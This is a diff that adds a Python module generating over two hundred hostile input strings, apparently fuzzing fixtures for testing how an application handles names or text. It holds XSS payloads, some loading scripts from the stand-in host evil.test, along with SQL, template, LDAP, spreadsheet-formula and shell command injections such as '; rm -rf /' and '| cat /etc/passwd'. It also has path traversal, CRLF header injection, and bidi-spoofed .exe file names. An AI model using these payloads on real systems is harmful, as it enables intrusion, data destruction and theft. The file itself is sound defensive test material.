@@ -1,0 +1,201 @@
+"""Two hundred names that somebody chose to do harm: markup, scripts, directions, lengths, controls, queries."""
+
+from __future__ import annotations
+
+import itertools
+from collections.abc import Sequence
+from typing import Final
+
+_HARM: Final = "window.harmed=1"
+_EVENTS: Final = (
+    "animationstart",
+    "begin",
+    "copy",
+    "drag",
+    "focusin",
+    "keydown",
+    "pointermove",
+    "resize",
+    "scroll",
+    "wheel",
+)
+_TAGS: Final = (
+    "<script>{harm}</script>",
+    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
+    "</title><script>{harm}</script>",
+    "</script><script>{harm}</script>",
+    "</textarea><script>{harm}</script>",
+    "</style><script>{harm}</script>",
+    "<!--<script>{harm}//-->",
+    "--><script>{harm}</script>",
+    "]]><script>{harm}</script>",
+    "<img src=x onerror={harm}>",
+    "<img/src=//evil.test/a.png>",
+    "<svg onload={harm}>",
+    "<svg><script>{harm}</script></svg>",
+    "<svg><a xlink:href='javascript:{harm}'><text y=9>x</text></a></svg>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror={harm}>",
+    "<iframe src=javascript:{harm}></iframe>",
+    "<iframe srcdoc='<script>parent.{harm}</script>'>",
+    "<object data=//evil.test/x></object>",
+    "<embed src=//evil.test/x>",
+    "<base href=//evil.test/>",
+    "<meta http-equiv=refresh content=0;url=//evil.test>",
+    "<link rel=stylesheet href=//evil.test/x.css>",
+    "<style>*{{display:none}}</style>",
+    "<form action=//evil.test><button>",
+    "<body onload={harm}>",
+    "<video><source onerror={harm}>",
+    "<details open ontoggle={harm}>",
+    "<input autofocus onfocus={harm}>",
+    "<marquee onstart={harm}>",
+    "<a href=javascript:{harm}>click</a>",
+    "<template><script>{harm}</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror={harm}>'>",
+    "<table><tr><td></table></tbody></main>",
+    "<plaintext>",
+    "<x onclick={harm} style=position:fixed;inset:0>",
+    *(f"<b tabindex=1 on{event}={{harm}}>" for event in _EVENTS),
+)
+_ATTRIBUTES: Final = (
+    '"><script>{harm}</script>',
+    "'><script>{harm}</script>",
+    '" autofocus onfocus={harm} x="',
+    "' autofocus onfocus={harm} x='",
+    '" style="position:fixed;inset:0" x="',
+    "` onmouseover={harm} `",
+    '"/><img src=x onerror={harm}>',
+    "x onpointerover={harm}//",
+    '\\"><svg onload={harm}>',
+    "&quot;><script>{harm}</script>",
+    "&#34;><script>{harm}</script>",
+)
+_SCRIPTS: Final = (
+    "javascript:{harm}",
+    "data:text/html,<script>{harm}</script>",
+    "vbscript:msgbox(1)",
+    '";{harm};//',
+    "';{harm};//",
+    "\\';{harm};//",
+    "${{{harm}}}",
+    "`${{{harm}}}`",
+    "</script>{{}}<!--",
+    "\\u003cscript\\u003e{harm}\\u003c/script\\u003e",
+    "\\x3cscript\\x3e{harm}\\x3c/script\\x3e",
+    "constructor.constructor('{harm}')()",
+    "__proto__",
+    "constructor",
+    "toString",
+    "hasOwnProperty",
+)
+_TEMPLATES: Final = (
+    "{{7*7}}",
+    "{{ config }}",
+    "{% raw %}{{ x }}",
+    "{%- for x in ().__class__.__base__.__subclasses__() -%}",
+    "{# comment #}",
+    "#{7*7}",
+    "<%= 7*7 %>",
+    "*{7*7}",
+    "[[${7*7}]]",
+    "{0.__class__}",
+    "%s%s%s%n",
+    "%(password)s",
+    "$(id)",
+    "`id`",
+    "; rm -rf /",
+    "| cat /etc/passwd",
+    "$HOME",
+    "%00",
+    "%0d%0aSet-Cookie: a=b",
+)
+_ENTITIES: Final = (
+    "&lt;script&gt;{harm}&lt;/script&gt;",
+    "&#60;script&#62;",
+    "&#x3c;img src=x&#x3e;",
+    "&amp;amp;",
+    "&nbsp;&shy;&zwj;",
+    "&NotAnEntity;",
+    "&",
+    "<",
+    ">",
+    '"',
+    "'",
+    "\\",
+    "/",
+    "<>&\"'`=/",
+)
+_QUERIES: Final = (
+    "' OR '1'='1",
+    '" OR ""="',
+    "'; DROP TABLE definitions; --",
+    "1); DELETE FROM projects; --",
+    "%' ESCAPE '\\",
+    "$where",
+    "$ne",
+    "a.b.c",
+    "..",
+    "../../etc/passwd",
+    "a/b?c=d#e",
+    "?status=behind&sort=name",
+    "#rows",
+    "*) (uid=*))(|(uid=*",
+    '=HYPERLINK("//evil.test")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "FLUSHALL",
+    "*1\\r\\n$8\\r\\nFLUSHALL\\r\\n",
+)
+_STYLES: Final = (
+    "}}*{{display:none}}",
+    "</style><style>body{{display:none}}",
+    "url(//evil.test/x)",
+    "expression({harm})",
+    "@import '//evil.test/x.css';",
+    "width:100%;position:fixed",
+    "var(--ink)",
+    "content:'x'",
+)
+_BIDI: Final = tuple("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
+_INVISIBLE: Final = tuple("\u00ad\u034f\u115f\u17b4\u180e\u200b\u200c\u200d\u2060\u2063\u3164\ufe0f\ufeff\uffa0")
+_CONTROLS: Final = tuple(map(chr, (1, 7, 8, 9, 10, 11, 12, 13, 27, 28, 127, 0x80, 0x85, 0x9B, 0x2028, 0x2029)))
+_SPECIAL: Final = (
+    "שלום <b>עולם</b> 123",
+    "مرحبا (بالعالم) 42%",
+    "abc אבג 123 دهو",
+    "👩‍👩‍👧‍👦👨🏿‍🚀🏳️‍🌈",
+    "🇩🇪🇦🇹🇨🇭",
+    "é́́" + "\u0301" * 150,
+    "Z̷̛͔a̸͇̎l̵̢̕g̶̨͝o̴",
+    "\ufffd\ufffe\uffff",
+    "\U000e0041\U000e0042\U000e007f",
+    "𝕊𝕔𝕣𝕚𝕡𝕥",
+    "＜script＞{harm}＜/script＞",
+    "ſcript<ſcript>",
+    "İstanbul ı",
+    "ﷺ" * 50,
+    "𓀀𒀀🀄",
+    "null",
+    "undefined",
+    "NaN",
+    "true",
+    "0",
+    "-0",
+    "1e999",
+    "[object Object]",
+    "👾" * 100,
+    "long" * 2_500,
+    "W" * 10_000,
+    "\u202e" * 150,
+    "a b " * 40,
+    "-" * 200,
+    "<b>" * 60,
+)
+
+
+def names() -> Sequence[str]:
+    """At least 200 of them, each once; whoever takes fewer characters than 10,000 cuts them off."""
+    plain = (*_TEMPLATES, *_QUERIES, *_SPECIAL)
+    written = (*_TAGS, *_ATTRIBUTES, *_SCRIPTS, *_ENTITIES, *_STYLES)
+    hidden = [f"pay{one}gpj.exe" for one in itertools.chain(_BIDI, _INVISIBLE, _CONTROLS)]
+    made = [one.format(harm=_HARM) for one in written]
+    return list(dict.fromkeys([*made, *(one.replace("{harm}", _HARM) for one in plain), *hidden]))
